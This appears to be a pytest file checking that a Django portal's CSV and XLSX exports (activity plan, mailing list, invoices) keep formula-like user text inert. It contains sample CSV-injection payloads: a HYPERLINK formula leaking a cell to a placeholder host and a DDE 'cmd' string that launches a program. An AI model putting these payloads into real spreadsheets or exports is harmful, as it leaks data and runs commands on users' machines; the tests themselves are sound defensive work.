"""A text typed into the portal never runs as a formula in an export: CSV cells that begin with =, +,
-, @, a tab or a carriage return get a leading apostrophe, XLSX cells stay text (the plan's
activities, which everyone may download; the mailing list; the invoices)."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from governance.csvfiles import text_cell

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")'


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+46 70 123", "'+46 70 123"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("Jönköping", "Jönköping"), ("", ""), (None, ""), ("a=b", "a=b"),
])
def test_a_csv_text_cell_that_would_run_gets_an_apostrophe(value, shown):
    assert text_cell(value) == shown


def test_an_activity_titled_as_a_formula_stays_text_in_the_plans_xlsx(demo, db, login, today):
    from annualplan.models import Activity

    activity = Activity.objects.filter(plan__year=today.year).order_by("pk").first()
    Activity.objects.filter(pk=activity.pk).update(title=FORMULA)
    response = login("communicator").get(reverse("annualplan:plan_xlsx", kwargs={"year": today.year}))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.data_type == "f" for row in sheet.iter_rows() for c in row), "the sheet's own SUM stays a formula"


def test_a_name_beginning_with_equals_is_text_in_the_mailing_list(demo, db, login):
    from governance.people.models import User

    User.objects.filter(username="communicator").update(first_name="=cmd|' /C calc'!A0", last_name="Sandberg")
    response = login("infochef").get(reverse("governance:network_export"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [r[0] for r in rows[1:]]
    assert "'=cmd|' /C calc'!A0 Sandberg" in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


def test_an_invoice_reference_beginning_with_equals_stays_text_in_both_invoice_exports(demo, db, login, today):
    from fees.models import Invoice

    invoice = Invoice.objects.get(year=today.year, organisation__code="W", kind="invoice")
    Invoice.objects.filter(pk=invoice.pk).update(reference=FORMULA, reference_message=None)
    client = login("admin")
    text = client.get(reverse("fees:invoices_export_csv", kwargs={"year": today.year})).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    row = next(r for r in rows if r[0] == invoice.number)
    assert "'" + FORMULA in row
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    response = client.get(reverse("fees:invoices_export_xlsx", kwargs={"year": today.year}))
    sheet, summary = load_workbook(io.BytesIO(response.content)).worksheets
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)  # the rows hold no formula
    assert any(c.data_type == "f" for row in summary.iter_rows() for c in row), "the totals' SUM stays a formula"
